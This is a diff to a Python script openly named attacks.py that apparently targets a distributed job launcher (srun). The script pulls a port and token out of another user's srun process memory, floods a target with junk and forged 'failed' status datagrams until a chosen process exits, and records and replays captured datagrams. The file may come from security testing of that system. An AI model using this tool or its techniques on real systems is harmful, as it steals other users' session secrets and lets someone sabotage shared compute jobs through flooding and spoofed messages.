@@ -1,8 +1,9 @@
 #!/usr/bin/python3
-"""attacks.py channel USER | flood ADDRESS PORT SECONDS | record FILE SECONDS | send ADDRESS PORT TIMES < DATAGRAMS
+"""attacks.py channel USER | flood ADDRESS PORT PROCESS | record FILE SECONDS | send ADDRESS PORT TIMES < DATAGRAMS
 
-channel: port and token in the memory of that user's srun. flood: of datagrams without a code, as fast as it goes. record: all
-datagrams that this machine sends or gets, one in a line: port, hexadecimal digits. send: such digits, so many times each.
+channel: port and token in the memory of that user's srun. flood: of datagrams without a code, as fast as it goes, until that
+process has ended. record: all datagrams that this machine sends or gets, one in a line: port, hexadecimal digits. send: such
+digits, so many times each.
 """
 import pathlib
 import re
@@ -28,12 +29,12 @@ def channel(user: str) -> None:
     sys.exit("no srun with a token")
 
 
-def flood(address: str, port: str, seconds: str) -> None:
+def flood(address: str, port: str, process: str) -> None:
     udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     datagrams = [b"x" * 300, b"aml-dist;2;" + b"0123456789abcdef;" * 3 + b"failed;0;0;9;1;node1"]
-    end = time.monotonic() + float(seconds)
+    step = pathlib.Path("/proc", process)
     sent = 0
-    while time.monotonic() < end:
+    while step.exists():
         for _ in range(200):
             udp.sendto(datagrams[sent % 2], (address, int(port, 0)))
             sent += 1
